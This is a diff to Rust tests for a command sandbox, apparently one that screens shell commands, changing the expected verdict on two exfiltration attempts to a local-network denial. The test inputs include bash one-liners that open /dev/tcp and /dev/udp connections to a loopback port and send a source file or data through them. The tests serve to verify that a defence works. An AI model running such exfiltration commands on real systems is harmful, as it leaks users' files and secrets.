@@ -864,12 +864,13 @@ fn tcp_to_a_loopback_listener_gets_nothing_out() {
         assert!(out.stderr.contains("zero-policy: deny"), "{out:#?}");
         assert_no_connection(&listener, &out);
     }
-    // A literal /dev/tcp redirection is a write outside the workspace: asked, not approved.
+    // A literal /dev/tcp redirection is bash's connection to that host: the
+    // machine itself, denied.
     let out = world.attack(
         &format!(
             "echo {RAN}; bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port} && cat src/main.rs >&3 && echo SENT'"
         ),
-        Stop::Decision(NOT_APPROVED),
+        Stop::Decision(DENY_LOCAL_NETWORK),
     );
     assert_no_connection(&listener, &out);
     // Code the analysis cannot read runs; the kernel keeps it off the network.
@@ -929,10 +930,11 @@ fn udp_and_dns_style_exfiltration_gets_nothing_out() {
         assert!(!out.stdout.contains("RESOLVED"), "{out:#?}");
         assert_no_datagram(&socket, &out);
     }
-    // The literal redirection is a write outside the workspace: asked, not approved.
+    // The literal redirection is bash's datagram to that host: the machine
+    // itself, denied.
     let out = world.attack(
         &format!("echo {RAN}; bash -c 'echo leak > /dev/udp/127.0.0.1/{port}'"),
-        Stop::Decision(NOT_APPROVED),
+        Stop::Decision(DENY_LOCAL_NETWORK),
     );
     assert_no_datagram(&socket, &out);
 }
